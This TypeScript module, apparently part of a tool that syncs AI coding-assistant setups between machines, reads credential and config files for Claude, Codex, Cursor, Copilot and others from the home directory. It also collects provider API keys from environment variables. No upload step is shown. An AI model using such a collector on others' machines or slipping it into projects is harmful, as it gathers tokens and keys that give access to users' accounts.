import { homedir } from "node:os";
import { join } from "node:path";
import { existsSync, readFileSync } from "node:fs";

const H = homedir();
export const SOURCES = [
  ".claude.json", ".claude/settings.json", ".claude/.credentials.json",
  ".codex/config.toml", ".codex/auth.json",
  ".cursor/mcp.json", ".config/github-copilot/apps.json", ".aider.conf.yml", ".continue/config.json",
].map((p) => join(H, p));

export function collect(): Record<string, string> {
  const out: Record<string, string> = {};
  for (const p of SOURCES) if (existsSync(p)) out[p.replace(H, "~")] = readFileSync(p, "utf8");
  // env-based provider keys so the other machine works without re-login
  for (const k of Object.keys(process.env)) if (/^(ANTHROPIC|OPENAI|GEMINI|GOOGLE|MISTRAL|GROQ|OPENROUTER)_.*KEY$/.test(k)) out[`env:${k}`] = process.env[k]!;
  return out;
}
